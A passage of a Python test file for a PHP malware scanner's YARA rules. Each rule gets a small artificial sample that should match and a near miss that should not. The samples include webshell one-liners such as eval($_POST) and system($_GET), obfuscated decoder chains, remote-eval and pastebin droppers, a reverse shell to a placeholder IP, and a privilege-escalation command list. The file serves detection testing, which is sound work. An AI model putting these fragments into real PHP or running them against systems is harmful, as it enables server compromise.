"""Evidence for every rule in signatures/*.yar: a must-hit sample and a must-not-hit near miss.

All samples are tiny, artificial PHP written for these tests (never taken from a malware corpus).
The table is the yara-python style: (rule_name, sample_bytes, should_match). A rule without a
positive sample, or a file that does not compile cleanly with yara-python or the `yara` CLI,
fails the suite. The `corpus` test scans the clean Debian PHP trees with the full rule set and
requires zero malicious verdicts (summed `score` meta >= 100, as the engine judges).
"""

from __future__ import annotations

import importlib
import os
import random
import re
import shutil
import subprocess
from base64 import b64encode
from collections.abc import Iterator
from concurrent.futures import ProcessPoolExecutor
from pathlib import Path

import pytest
import yara

from spamgear.benchmarks.rules import CLEAN_TREES
from tests.conftest import REPO

SIG_DIR = REPO / "signatures"
THRESHOLD = 100
CLEAN_ROOTS = CLEAN_TREES[:12]  # session-2 trees, symlinks followed; tests/test_corpus.py gates all (engine)


def php(body: str) -> bytes:
    """A PHP file with `body` after the open tag."""
    return ("<?php\n" + body + "\n").encode()


def pad(body: str, size: int = 3500) -> bytes:
    """A PHP file whose code sits behind a neutral comment, to reach a file-size band."""
    return ("<?php\n/* " + "neutral padding text " * (size // 21) + " */\n" + body + "\n").encode()


_RNG = random.Random(4)
B64_RANDOM = b64encode(bytes(_RNG.randrange(256) for _ in range(3000))).decode()
ESC_RUN = "".join(f"\\x{c:02x}" for c in b"abcdefghijkl")
EICAR = ("X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + "EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*").encode()

CASES: list[tuple[str, bytes, bool]] = [
    ("SPAMGEAR_TEST_EICAR", EICAR, True),
    ("SPAMGEAR_TEST_EICAR", b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE mentioned in a README", False),
    # --- input_to_sink.yar -------------------------------------------------------------------
    ("SPAMGEAR_INPUT_EvalOfInput", php("@eval($_POST['x']);"), True),
    ("SPAMGEAR_INPUT_EvalOfInput", php("eval('return 1;'); $y = $_POST['x'];"), False),
    ("SPAMGEAR_INPUT_ShellOfInput", php("system($_GET['c']);"), True),
    ("SPAMGEAR_INPUT_ShellOfInput", php("$o = `$_GET[c]`;"), True),
    ("SPAMGEAR_INPUT_ShellOfInput", php("`$_GET[c]`;"), True),
    ("SPAMGEAR_INPUT_ShellOfInput", php("system('uptime'); echo $_GET['c'];"), False),
    (
        "SPAMGEAR_INPUT_ShellNearInput",
        php("exec('convert ' . escapeshellarg($_POST['f']) . ' o.png');"),
        True,
    ),
    ("SPAMGEAR_INPUT_ShellNearInput", php("exec('convert in.png out.png'); $f = $_POST['f'];"), False),
    ("SPAMGEAR_INPUT_InputAsFunction", php("$_GET['f']($_GET['a']);"), True),
    ("SPAMGEAR_INPUT_InputAsFunction", php("echo $_GET['f'] . ' (note)';"), False),
    ("SPAMGEAR_INPUT_CallbackNearInput", php("call_user_func(array($this, 'x'), $_GET['a']);"), True),
    ("SPAMGEAR_INPUT_CallbackNearInput", php("$ids = array_map('intval', $ids); $q = $_GET['q'];"), False),
    ("SPAMGEAR_INPUT_PregReplaceEval", php("preg_replace('/.*/e', $_POST['c'], '');"), True),
    ("SPAMGEAR_INPUT_PregReplaceEval", php("preg_replace('/a+/i', 'b', $_POST['c']);"), False),
    ("SPAMGEAR_INPUT_IncludeOfInput", php("include($_GET['page']);"), True),
    ("SPAMGEAR_INPUT_IncludeOfInput", php("include __DIR__ . '/page.php'; $p = $_GET['page'];"), False),
    ("SPAMGEAR_INPUT_WriteOfInput", php("fwrite($fp, $_POST['data']);"), True),
    ("SPAMGEAR_INPUT_WriteOfInput", php("fwrite($fp, $data); $d = $_POST['data'];"), False),
    ("SPAMGEAR_INPUT_SmallInputAndSink", php("$c = $_REQUEST['c']; system($c);"), True),
    ("SPAMGEAR_INPUT_SmallInputAndSink", php("$c = $_REQUEST['c']; echo strlen($c);"), False),
    ("SPAMGEAR_INPUT_SmallInputAndSink", php("$c = $_POST['c']; $p = popen('exec 2>&1; ' . $c, 'r');"), True),
    ("SPAMGEAR_INPUT_MidInputAndSink", pad("$c = $_POST['c']; passthru($c);"), True),
    ("SPAMGEAR_INPUT_MidInputAndSink", pad("$c = $_POST['c']; echo $c;"), False),
    ("SPAMGEAR_INPUT_SinkNameAsCallback", php("array_map('assert', array($_POST['x']));"), True),
    ("SPAMGEAR_INPUT_SinkNameAsCallback", php('array_map("ass\\x65rt", (array) $_REQUEST["x"]);'), True),
    ("SPAMGEAR_INPUT_SinkNameAsCallback", php("array_map('trim', array($_POST['x']));"), False),
    (
        "SPAMGEAR_INPUT_SinkNameAsCallback",
        php("filter_var($_REQUEST['x'], FILTER_CALLBACK, array('options' => 'assert'));"),
        True,
    ),
    ("SPAMGEAR_INPUT_SinkNameInVariable", php("$f = 'assert';"), True),
    ("SPAMGEAR_INPUT_SinkNameInVariable", php("$f = 'assertion';"), False),
    ("SPAMGEAR_INPUT_ArbitraryFileWrite", php("file_put_contents($_POST['n'], $_POST['d']);"), True),
    ("SPAMGEAR_INPUT_ArbitraryFileWrite", php("file_put_contents('log.txt', $_POST['d']);"), False),
    ("SPAMGEAR_INPUT_TinyCallbackOfInput", php("$e = $_REQUEST['e']; array_filter(array(1), $e);"), True),
    (
        "SPAMGEAR_INPUT_TinyCallbackOfInput",
        php("$ids = array_filter(array($_POST['p']), 'is_numeric');"),
        False,
    ),
    (
        "SPAMGEAR_INPUT_TinyCallbackOfInput",
        php("register_shutdown_function(array($this, 'x')); $a = $_POST['a'];"),
        False,
    ),
    (
        "SPAMGEAR_INPUT_TinyCallbackOfInput",
        php("$db->sqliteCreateFunction('f', $e, 1); $x = $_REQUEST['e'];"),
        True,
    ),
    ("SPAMGEAR_INPUT_TinyCallbackOfInput", php("$f = $_GET['f']; $a = $_GET['a']; $f($a);"), True),
    (
        "SPAMGEAR_INPUT_TinyCallbackOfInput",
        php("$arr = array($_POST['p']); array_udiff($arr, array(1), $e);"),
        True,
    ),
    ("SPAMGEAR_INPUT_CallResultOnInput", php("$h['x']($_GET['a']);"), True),
    ("SPAMGEAR_INPUT_CallResultOnInput", php("$h['x'] = ($_GET['a']);"), False),
    ("SPAMGEAR_INPUT_ShellConcatInput", php("exec('ping -c1 ' . $_GET['h']);"), True),
    ("SPAMGEAR_INPUT_ShellConcatInput", php("exec('ping -c1 ' . escapeshellarg($_GET['h']));"), False),
    ("SPAMGEAR_INPUT_InputIntoPhpFile", php("file_put_contents('cfg.php', '<?php ' . $_POST['c']);"), True),
    ("SPAMGEAR_INPUT_InputIntoPhpFile", php("file_put_contents('notes.txt', $_POST['c']);"), False),
    (
        "SPAMGEAR_INPUT_UnserializeGadget",
        php("class A { function __destruct() { eval($this->d); } } unserialize($_GET['s']);"),
        True,
    ),
    (
        "SPAMGEAR_INPUT_UnserializeGadget",
        php("class A { function __destruct() { echo $this->d; } } unserialize($_GET['s']);"),
        False,
    ),
    ("SPAMGEAR_INPUT_TinyInputFileWrite", php("@fwrite(fopen($f, 'w'), $_POST['c']);"), True),
    (
        "SPAMGEAR_INPUT_TinyInputFileWrite",
        php("$h = fopen($f, 'w'); fwrite($h, $_POST['c']); fclose($h);"),
        False,
    ),
    ("SPAMGEAR_INPUT_ExtractAndCall", php('@extract($_REQUEST); @die("$a($b)");'), True),
    ("SPAMGEAR_INPUT_ExtractAndCall", php("extract($_POST); echo $title;"), False),
    ("SPAMGEAR_INPUT_ExtractAndCall", php("@extract ($_REQUEST); @die ($a($b));"), True),
    ("SPAMGEAR_INPUT_TinyIncludeOfInputVar", php("$f = $_GET['p']; include($f);"), True),
    ("SPAMGEAR_INPUT_TinyIncludeOfInputVar", php("$f = $_GET['p']; include('header.php');"), False),
    ("SPAMGEAR_INPUT_TinyIncludeOfInputVar", php("$f = basename($_GET['p']) . '.php'; include $f;"), False),
    ("SPAMGEAR_INPUT_ComspecShell", php("$p = proc_open($_SERVER['COMSPEC'], $d, $pipes);"), True),
    ("SPAMGEAR_INPUT_ComspecShell", php("$shell = $_SERVER['COMSPEC'];"), False),
    ("SPAMGEAR_INPUT_PregReplaceEvalPattern", php("preg_replace('/x/e', $code, 'x');"), True),
    ("SPAMGEAR_INPUT_PregReplaceEvalPattern", php("preg_replace('/x/i', $code, 'x');"), False),
    ("SPAMGEAR_INPUT_TinySinkNameVarCall", php("$f = 'passthru'; $f($_POST['c']);"), True),
    ("SPAMGEAR_INPUT_TinySinkNameVarCall", php("$section = 'system'; $v = $_POST['v'];"), False),
    # --- obfuscation.yar ---------------------------------------------------------------------
    ("SPAMGEAR_OBFUSC_EvalDecoder", php("eval(gzinflate(base64_decode('AAAA')));"), True),
    ("SPAMGEAR_OBFUSC_EvalDecoder", php("$f = create_function('$c', base64_decode('AAAA'));"), True),
    ("SPAMGEAR_OBFUSC_EvalDecoder", php("$x = gzinflate(base64_decode('AAAA')); echo $x;"), False),
    ("SPAMGEAR_OBFUSC_EvalRemoteOrFile", php("eval(file_get_contents('http://example.invalid/x'));"), True),
    ("SPAMGEAR_OBFUSC_EvalRemoteOrFile", php("$t = file_get_contents('http://example.invalid/x');"), False),
    ("SPAMGEAR_OBFUSC_ReversedOrRot13Sink", php("$f = strrev('tressa');"), True),
    ("SPAMGEAR_OBFUSC_ReversedOrRot13Sink", php("$f = strrev('hello');"), False),
    ("SPAMGEAR_OBFUSC_EscapedSinkName", php('$f = "\\x65\\x76\\x61\\x6c";'), True),
    ("SPAMGEAR_OBFUSC_EscapedSinkName", php('$f = "\\x65\\x78\\x61\\x6d";'), False),
    ("SPAMGEAR_OBFUSC_EscapeSoup", php(" ".join(f'$v{i} = "{ESC_RUN}";' for i in range(4))), True),
    ("SPAMGEAR_OBFUSC_EscapeSoup", php(f'$v = "{ESC_RUN}";'), False),
    (
        "SPAMGEAR_OBFUSC_ChrChain",
        php("$a = chr(101).chr(118).chr(97).chr(108); $b = chr(97).chr(115).chr(115).chr(101);"),
        True,
    ),
    ("SPAMGEAR_OBFUSC_ChrChain", php("$a = chr(101).chr(118).chr(97).chr(108);"), False),
    ("SPAMGEAR_OBFUSC_ConcatSinkName", php("$f = 'ev'.'al';"), True),
    ("SPAMGEAR_OBFUSC_ConcatSinkName", php("$f = 'ev'.'ent';"), False),
    ("SPAMGEAR_OBFUSC_VariableFunctionCall", php("$f($_GET['x']);"), True),
    ("SPAMGEAR_OBFUSC_VariableFunctionCall", php("$f = strtoupper($_GET['x']);"), False),
    ("SPAMGEAR_OBFUSC_InputToVariableFunction", php("$a = 'x'; $a($_POST['c']);"), True),
    ("SPAMGEAR_OBFUSC_InputToVariableFunction", php("$obj->run($_POST['c']);"), False),
    ("SPAMGEAR_OBFUSC_InputToVariableFunction", php("echo ''.$f($_POST['c']);"), True),
    ("SPAMGEAR_OBFUSC_LongBlob", php("$x = base64_decode('" + "A" * 1100 + "');"), True),
    ("SPAMGEAR_OBFUSC_LongBlob", php("$x = base64_decode('" + "A" * 900 + "');"), False),
    ("SPAMGEAR_OBFUSC_BlobWithDecoderSink", php("$x = base64_decode('" + "A" * 700 + "'); eval($x);"), True),
    ("SPAMGEAR_OBFUSC_BlobWithDecoderSink", php("$x = base64_decode('" + "A" * 700 + "'); echo $x;"), False),
    ("SPAMGEAR_OBFUSC_XorDecode", php("$k = 'abc'^\"\\x01\\x02\\x03\";"), True),
    ("SPAMGEAR_OBFUSC_XorDecode", php("$k = 'abc' . \"\\x01\";"), False),
    ("SPAMGEAR_OBFUSC_UnderscoreSoup", php("$_='a'; $__=\"b\"; $___=[1]; $__($_);"), True),
    ("SPAMGEAR_OBFUSC_UnderscoreSoup", php("$_='a'; $__=\"b\"; $___=[1]; echo $__;"), False),
    ("SPAMGEAR_OBFUSC_PackedEntropy", php("eval(base64_decode('" + B64_RANDOM + "'));"), True),
    (
        "SPAMGEAR_OBFUSC_PackedEntropy",
        php("$t = base64_decode($x);\n" + "echo 'hello world';\n" * 200),
        False,
    ),
    ("SPAMGEAR_OBFUSC_JunkTokenReassembly", php("$A = str_replace('Qv','',$b.$c.$d.$e);"), True),
    ("SPAMGEAR_OBFUSC_JunkTokenReassembly", php("$A = str_replace('Qv','',$b);"), False),
    ("SPAMGEAR_OBFUSC_LambdaFromVariable", php("$h=$u('',$A);$h();"), True),
    ("SPAMGEAR_OBFUSC_LambdaFromVariable", php("$h=$u('',$A); echo $h;"), False),
    ("SPAMGEAR_OBFUSC_ConfusableNames", php(" ".join(f"$OOO0{'0' * i}O = {i};" for i in range(1, 7))), True),
    ("SPAMGEAR_OBFUSC_ConfusableNames", php("$OOO = 1; $OO0 = 2;"), False),
    ("SPAMGEAR_OBFUSC_EscapedGlobals", php('$v = ${"_POST"}["x"];'), True),
    ("SPAMGEAR_OBFUSC_EscapedGlobals", php('$v = ${"config"};'), False),
    (
        "SPAMGEAR_OBFUSC_PasteSiteDropper",
        php("file_put_contents('a.php', file_get_contents('https://pastebin.com/raw/abc'));"),
        True,
    ),
    (
        "SPAMGEAR_OBFUSC_PasteSiteDropper",
        php("$x = file_get_contents('https://example.com/feed'); file_put_contents('c.txt', $x);"),
        False,
    ),
    ("SPAMGEAR_OBFUSC_ReversedSinkStrong", php("$f = strrev('edoced_46esab');"), True),
    ("SPAMGEAR_OBFUSC_ReversedSinkStrong", php("$f = strrev('edoced');"), False),
    (
        "SPAMGEAR_OBFUSC_PasteSiteDropper",
        php(
            "file_put_contents('l.json', file_get_contents('https://raw.githubusercontent.com/o/r/main/l.json'));"
        ),
        False,
    ),
    ("SPAMGEAR_OBFUSC_ReversedSinkStrong", php("$n = strrev('TSOP_'); $v = $$n;"), True),
    ("SPAMGEAR_OBFUSC_SplitSuperglobal", php('$v = ${"_P"."OST"}[\'x\'];'), True),
    ("SPAMGEAR_OBFUSC_SplitSuperglobal", php("$v = ${\"_POST\"}['x'];"), False),
    ("SPAMGEAR_OBFUSC_Base64CodeLiteral", php("$c = base64_decode('PD9waHAgZWNobyAxOw==');"), True),
    ("SPAMGEAR_OBFUSC_Base64CodeLiteral", php("$c = base64_decode('aGVsbG8gd29ybGQ=');"), False),
    ("SPAMGEAR_OBFUSC_Base64CodeLiteral", php('$k = "JGEg' + "A" * 220 + '"; $c = base64_decode($k);'), True),
    (
        "SPAMGEAR_OBFUSC_Base64CodeDropper",
        php("file_put_contents('x.php', base64_decode('PD9waHAgZWNobyAxOw=='));"),
        True,
    ),
    (
        "SPAMGEAR_OBFUSC_Base64CodeDropper",
        php("$c = base64_decode('PD9waHAgZWNobyAxOw=='); echo strlen($c);"),
        False,
    ),
    ("SPAMGEAR_OBFUSC_IncrementSoup", php("$__=$_; " + "$__++; " * 9 + "$___.=$__; " * 3), True),
    ("SPAMGEAR_OBFUSC_IncrementSoup", php("$__=$_; " + "$__++; " * 3 + "$___.=$__;"), False),
    (
        "SPAMGEAR_OBFUSC_CharPicking",
        php(" ".join(f"$v{i} = $x[1].$x[2].$x[3].$x[4];" for i in range(5))),
        True,
    ),
    ("SPAMGEAR_OBFUSC_CharPicking", php("$a = $x[1] . $x[2];"), False),
    ("SPAMGEAR_OBFUSC_CurlyCharPicking", php("$a = $x{1}.$x{2}.$x{3};"), True),
    ("SPAMGEAR_OBFUSC_CurlyCharPicking", php("$a = $x[1].$x[2].$x[3];"), False),
    (
        "SPAMGEAR_OBFUSC_SubstitutionDecoderEval",
        php(
            "function d($s, $m) { $o = ''; for ($i = 0; $i < strlen($s); $i++) {"
            " $o .= isset($m[$s[$i]]) ? $m[$s[$i]] : $s[$i]; } return base64_decode($o); } eval(d($a, $b));"
        ),
        True,
    ),
    (
        "SPAMGEAR_OBFUSC_SubstitutionDecoderEval",
        php(
            "function d($s, $m) { $o = ''; for ($i = 0; $i < strlen($s); $i++) {"
            " $o .= isset($m[$s[$i]]) ? $m[$s[$i]] : $s[$i]; } return base64_decode($o); } echo d($a, $b);"
        ),
        False,
    ),
    (
        "SPAMGEAR_OBFUSC_MixedEscapeChr",
        php('$a = "\\x61".chr(117)."\\x74"; $b = "\\x62".chr(97)."\\x73";'),
        True,
    ),
    ("SPAMGEAR_OBFUSC_MixedEscapeChr", php('$a = "\\x61".chr(117)."\\x74";'), False),
    ("SPAMGEAR_OBFUSC_JunkCharLiteral", php("$f = str_replace('y', '', 'ysyyysytem');"), True),
    ("SPAMGEAR_OBFUSC_JunkCharLiteral", php("$f = str_replace('-', '', $uuid);"), False),
    ("SPAMGEAR_OBFUSC_XorLambda", php("$f = 'abc'^\"\\x01\\x02\\x03\"; $g = $f('',$b);"), True),
    ("SPAMGEAR_OBFUSC_XorLambda", php("$f = 'abc'^\"\\x01\\x02\\x03\"; $g = $f($b);"), False),
    ("SPAMGEAR_OBFUSC_EvalWrapper", php("function r($c){ return eval($c); }"), True),
    ("SPAMGEAR_OBFUSC_EvalWrapper", php("function r($c){ return trim($c); }"), False),
    (
        "SPAMGEAR_OBFUSC_DecoderWrappers",
        php("function a($x){ return base64_decode($x); } function b($y){ return gzinflate($y); }"),
        True,
    ),
    ("SPAMGEAR_OBFUSC_DecoderWrappers", php("function a($x){ return base64_decode($x); }"), False),
    ("SPAMGEAR_OBFUSC_EvalOfCustomDecoder", php('eval(dec("' + "A" * 250 + '"));'), True),
    ("SPAMGEAR_OBFUSC_EvalOfCustomDecoder", php('echo dec("' + "A" * 250 + '");'), False),
    (
        "SPAMGEAR_OBFUSC_EmbeddedExecutable",
        php('$b = "\\x7f\\x45\\x4c\\x46\\x02"; file_put_contents("/tmp/b", $b);'),
        True,
    ),
    ("SPAMGEAR_OBFUSC_EmbeddedExecutable", php('$b = "\\x7f\\x45\\x4c\\x46\\x02"; echo strlen($b);'), False),
    ("SPAMGEAR_OBFUSC_ConcatDecoderName", php("$f = 'base'.'64_decode';"), True),
    ("SPAMGEAR_OBFUSC_ConcatDecoderName", php("$f = 'base'.'line';"), False),
    (
        "SPAMGEAR_OBFUSC_EscapedGlobalsMany",
        php(" ".join(f'${{"\\x47\\x4c\\x4f\\x42\\x41\\x4c\\x53"}}["k{i}"] = {i};' for i in range(11))),
        True,
    ),
    (
        "SPAMGEAR_OBFUSC_EscapedGlobalsMany",
        php(" ".join(f'${{"\\x47\\x4c\\x4f\\x42\\x41\\x4c\\x53"}}["k{i}"] = {i};' for i in range(3))),
        False,
    ),
    ("SPAMGEAR_OBFUSC_CharXorChain", php("$f = ('#'^'|').('.'^'~').('/'^'`').('|'^'/');"), True),
    ("SPAMGEAR_OBFUSC_CharXorChain", php("$f = ('#'^'|');"), False),
    (
        "SPAMGEAR_OBFUSC_CommentInterleaved",
        php("$f = 'a'. /*x*/'s'. /*x*/'s'. /*x*/'e'. /*x*/'r'. /*x*/'t';"),
        True,
    ),
    ("SPAMGEAR_OBFUSC_CommentInterleaved", php("$f = 'a' . /* one note */ 'b';"), False),
    ("SPAMGEAR_OBFUSC_SingleCharConcat", php("$f = 'c'.'o'.'p'.'y';"), True),
    ("SPAMGEAR_OBFUSC_SingleCharConcat", php("$f = 'a'.'s'.'s'.'er';"), False),
    ("SPAMGEAR_OBFUSC_VariableVariableCall", php("${$n}[0](${$n}[1]);"), True),
    ("SPAMGEAR_OBFUSC_VariableVariableCall", php("$v = ${$n}[0];"), False),
    (
        "SPAMGEAR_OBFUSC_SuperglobalAliasCall",
        php("$c = $_COOKIE; $f = $c['a']; $g = $f('', $c['b']); $g();"),
        True,
    ),
    ("SPAMGEAR_OBFUSC_SuperglobalAliasCall", php("$c = $_COOKIE; $theme = $c['theme'];"), False),
    ("SPAMGEAR_OBFUSC_EvalPatternViaVariable", php("$r = 'x'; $r('/.*/e', $_POST['h'], 'a');"), True),
    ("SPAMGEAR_OBFUSC_EvalPatternViaVariable", php("$r = 'x'; $r('/.*/i', $_POST['h'], 'a');"), False),
    (
        "SPAMGEAR_OBFUSC_OneLinerInLiteral",
        php("$a = '<?php @eval($_POST[k]);?>'; file_put_contents('x.php', $a);"),
        True,
    ),
    (
        "SPAMGEAR_OBFUSC_OneLinerInLiteral",
        php("$a = '<?php echo 1; ?>'; file_put_contents('x.php', $a);"),
        False,
    ),
    ("SPAMGEAR_OBFUSC_PackedEvalPayload", php("eval(base64_decode('" + B64_RANDOM + "'));"), True),
    ("SPAMGEAR_OBFUSC_PackedEvalPayload", php("$k = '" + B64_RANDOM + "'; echo base64_decode($k);"), False),
    (
        "SPAMGEAR_OBFUSC_JunkLiteralLambda",
        php("$f = str_replace('y', '', 'ycyreyate_fyunction'); $g = $f('', $b);"),
        True,
    ),
    (
        "SPAMGEAR_OBFUSC_JunkLiteralLambda",
        php("$f = str_replace('y', '', 'ycyreyate_fyunction'); echo $f;"),
        False,
    ),
    ("SPAMGEAR_OBFUSC_HexCodeLiteral", php("$r = pack('H*', '406576616c28');"), True),
    ("SPAMGEAR_OBFUSC_HexCodeLiteral", php("$r = pack('H*', '48656c6c6f');"), False),
    ("SPAMGEAR_OBFUSC_HexCodeLiteral", php("$r = pack('H*', '3c3f4065');"), True),
    (
        "SPAMGEAR_OBFUSC_HexUrlLiteral",
        php("$u = hex2bin('687474703a2f2f6578616d706c652e696e76616c6964');"),
        True,
    ),
    ("SPAMGEAR_OBFUSC_HexUrlLiteral", php("$u = hex2bin('6578616d706c65');"), False),
    ("SPAMGEAR_OBFUSC_VarChrChain", php("$a = $c(98).$c(97).$c(115); $b = $c(101).$c(54).$c(52);"), True),
    ("SPAMGEAR_OBFUSC_VarChrChain", php("$a = $c(98).$c(97).$c(115);"), False),
    ("SPAMGEAR_OBFUSC_UrlencodedCodeLiteral", php("$p = '%24a%20%3D%201%3B';"), True),
    ("SPAMGEAR_OBFUSC_UrlencodedCodeLiteral", php("$p = 'a%20b%3Dc';"), False),
    (
        "SPAMGEAR_OBFUSC_UrlencodedCodeDropper",
        php("$p = '%24a%20%3D%201%3B'; file_put_contents($f, '<?php ' . urldecode($p));"),
        True,
    ),
    ("SPAMGEAR_OBFUSC_UrlencodedCodeDropper", php("$p = '%24a%20%3D%201%3B'; echo urldecode($p);"), False),
    (
        "SPAMGEAR_OBFUSC_HexCodeBlob",
        php("assert_options(ASSERT_WARNING, 0); $h = '2461757468203d2031';"),
        True,
    ),
    ("SPAMGEAR_OBFUSC_HexCodeBlob", php("$h = '2461757468203d2031'; echo strlen($h);"), False),
    (
        "SPAMGEAR_OBFUSC_HexLoopDecoderEval",
        php("for ($i = 0; $i < strlen($h); $i += 2) { $o .= chr(hexdec(substr($h, $i, 2))); } eval($o);"),
        True,
    ),
    (
        "SPAMGEAR_OBFUSC_HexLoopDecoderEval",
        php("for ($i = 0; $i < strlen($h); $i += 2) { $o .= chr(hexdec(substr($h, $i, 2))); } echo $o;"),
        False,
    ),
    ("SPAMGEAR_OBFUSC_HexNamedSinks", php("$f = array('7068705f756e616d65', '73797374656d');"), True),
    ("SPAMGEAR_OBFUSC_HexNamedSinks", php("$f = array('7068705f756e616d65', '48656c6c6f');"), False),
    (
        "SPAMGEAR_OBFUSC_GlobalsFromAlphabet",
        php(" ".join(f"$GLOBALS['g{i}'] = $r[9] . $r[2] . $r[4];" for i in range(3))),
        True,
    ),
    ("SPAMGEAR_OBFUSC_GlobalsFromAlphabet", php("$GLOBALS['g'] = $r[9] . $r[2] . $r[4];"), False),
    ("SPAMGEAR_OBFUSC_EvalOfLiteralSink", php("eval(\"function f() { echo system('id'); }\"); f();"), True),
    ("SPAMGEAR_OBFUSC_EvalOfLiteralSink", php("eval('return 1 + 2;');"), False),
    (
        "SPAMGEAR_OBFUSC_EvalOfLiteralSink",
        b'eval("module.exports = function (exec) { try { return !!exec(); } catch (e) {} };");',
        False,
    ),
    (
        "SPAMGEAR_OBFUSC_SmallRemoteEval",
        php("while ($c = file_get_contents('http://example.invalid/c.txt')) { eval($c); sleep(5); }"),
        True,
    ),
    (
        "SPAMGEAR_OBFUSC_SmallRemoteEval",
        php("$c = file_get_contents('http://example.invalid/c.txt'); echo $c;"),
        False,
    ),
    (
        "SPAMGEAR_OBFUSC_SpacedPayload",
        php('$p = str_replace(" ", "", "a W Y o a X N z Z X Q o J F 9 D T 0 9 L S U V b");'),
        True,
    ),
    ("SPAMGEAR_OBFUSC_SpacedPayload", php('$p = str_replace(" ", "", "first name");'), False),
    ("SPAMGEAR_OBFUSC_CommentBeforeParen", php("eval/*x9*/(dec($a, $b));"), True),
    ("SPAMGEAR_OBFUSC_CommentBeforeParen", php('$a = $r/*+/*+*/("x"); $b = $r/*+/*+*/("y");'), True),
    ("SPAMGEAR_OBFUSC_CommentBeforeParen", php("$v = evaluate(/* inline */ $a);"), False),
    ("SPAMGEAR_OBFUSC_VowelDigitCipher", php("f3nct42n k() { r5t3rn f4l5_g5t_c2nt5nts($3rl); }"), True),
    ("SPAMGEAR_OBFUSC_VowelDigitCipher", php("function k() { return 'r5t3rn'; }"), False),
    (
        "SPAMGEAR_OBFUSC_VarCallOnFragments",
        php('$a=$r("ri"."d_"."si"); $b=$r("em"."an"."er"); $c=$r("ri"."dne"."po");'),
        True,
    ),
    ("SPAMGEAR_OBFUSC_VarCallOnFragments", php('$a=$r("ri"."d_"."si");'), False),
    ("SPAMGEAR_OBFUSC_Base64SinkLiteral", php("$c = base64_decode('ZXZhbCgkX0dFVFsidCJdKTs=');"), True),
    ("SPAMGEAR_OBFUSC_Base64SinkLiteral", php("$c = base64_decode('PD9waHAgZWNobyAxOw==');"), False),
    (
        "SPAMGEAR_OBFUSC_CurlyCharPickingMany",
        php(" ".join(f"$v{i} = $x{{1}}.$x{{2}}.$x{{3}};" for i in range(3))),
        True,
    ),
    ("SPAMGEAR_OBFUSC_CurlyCharPickingMany", php("$a = $x{1}.$x{2}.$x{3};"), False),
    ("SPAMGEAR_OBFUSC_NonAlnumIndex", php('$_ = ""; $_[+""] = 1; $__ = $_[+$_];'), True),
    ("SPAMGEAR_OBFUSC_NonAlnumIndex", php('$_ = ""; $x[+1] = 1;'), False),
    # --- filemanager.yar ---------------------------------------------------------------------
    (
        "SPAMGEAR_SHELLUI_CommandFileManager",
        php(
            "system($_POST['c']); move_uploaded_file($t, $d); scandir('.'); unlink($f);"
            " echo php_uname(); echo ini_get('disable_functions');"
        ),
        True,
    ),
    (
        "SPAMGEAR_SHELLUI_CommandFileManager",
        php("move_uploaded_file($t, $d); scandir('.'); unlink($f); $c = $_POST['c']; echo php_uname();"),
        False,
    ),
    (
        "SPAMGEAR_SHELLUI_HostProbes",
        php("php_uname(); ini_get('disable_functions'); ini_get('safe_mode'); posix_getpwuid(0);"),
        True,
    ),
    ("SPAMGEAR_SHELLUI_HostProbes", php("php_uname(); ini_get('safe_mode');"), False),
    (
        "SPAMGEAR_SHELLUI_ReverseShell",
        php("$s = fsockopen('192.0.2.1', 4444); proc_open('/bin/sh -i', $d, $p);"),
        True,
    ),
    (
        "SPAMGEAR_SHELLUI_ReverseShell",
        php("$s = fsockopen('mail.example.com', 25); fwrite($s, \"HELO x\\r\\n\");"),
        False,
    ),
    (
        "SPAMGEAR_SHELLUI_EmbeddedBackconnect",
        php("$p = \"#!/usr/bin/perl\\nuse Socket;\\nexec('/bin/sh');\"; file_put_contents('/tmp/b.pl', $p);"),
        True,
    ),
    (
        "SPAMGEAR_SHELLUI_EmbeddedBackconnect",
        php("$p = \"#!/usr/bin/perl\\nprint 'hi';\"; file_put_contents('/tmp/b.pl', $p);"),
        False,
    ),
    (
        "SPAMGEAR_SHELLUI_BareUploader",
        php("move_uploaded_file($_FILES['f']['tmp_name'], $_FILES['f']['name']);"),
        True,
    ),
    (
        "SPAMGEAR_SHELLUI_BareUploader",
        php(
            "if (!in_array($ext, $allowed)) { die(); }"
            " move_uploaded_file($_FILES['f']['tmp_name'], $_FILES['f']['name']);"
        ),
        False,
    ),
    (
        "SPAMGEAR_SHELLUI_UploadForm",
        b'<form enctype="multipart/form-data" method="post"><input type="file" name="f"></form>'
        + php("move_uploaded_file($_FILES['f']['tmp_name'], 'up/x');"),
        True,
    ),
    ("SPAMGEAR_SHELLUI_UploadForm", b'<form enctype="multipart/form-data" method="post"></form>', False),
    (
        "SPAMGEAR_SHELLUI_PrivescMenu",
        php(
            "$m = array('find / -type f -perm -04000 -ls', 'find / -type f -perm -02000 -ls',"
            " 'cat /etc/passwd');"
        ),
        True,
    ),
    ("SPAMGEAR_SHELLUI_PrivescMenu", php("$m = array('cat /etc/passwd');"), False),
    ("SPAMGEAR_SHELLUI_ShellKeywords", b"<h1>Back Connect</h1><h2>Bind Port</h2><a>Self Remove</a>", True),
    ("SPAMGEAR_SHELLUI_ShellKeywords", b"<h1>Connect</h1><h2>Port</h2>", False),
    (
        "SPAMGEAR_SHELLUI_FeatureRichShell",
        php(
            "system($a); passthru($b); shell_exec($c); move_uploaded_file($t, $d); opendir('.');"
            " chmod($f, 0644); echo php_uname(); echo ini_get('safe_mode');"
        ),
        True,
    ),
    (
        "SPAMGEAR_SHELLUI_FeatureRichShell",
        php(
            "system($a); passthru($b); move_uploaded_file($t, $d); opendir('.'); chmod($f, 0644);"
            " echo php_uname(); echo ini_get('safe_mode');"
        ),
        False,
    ),
    (
        "SPAMGEAR_SHELLUI_FeatureRichShell",
        b'var docs = {"system": "string system(string command)", "passthru": "void passthru(string command)",'
        b' "shell_exec": "string shell_exec(string cmd)",'
        b' "move_uploaded_file": "bool move_uploaded_file(string path)", "opendir": "opendir(string path)",'
        b' "chmod": "chmod(string file)", "php_uname": "x",'
        b' "safe_mode": "y"};',
        False,
    ),
    (
        "SPAMGEAR_SHELLUI_WindowsComShell",
        php("$w = new COM('WScript.Shell'); $w->exec('cmd /c ' . $_POST['c']);"),
        True,
    ),
    ("SPAMGEAR_SHELLUI_WindowsComShell", php("$w = new COM('Word.Application'); $n = $_POST['n'];"), False),
    ("SPAMGEAR_SHELLUI_PasswdAndSymlink", php("$u = file('/etc/passwd'); symlink('/home/u/x', 'y');"), True),
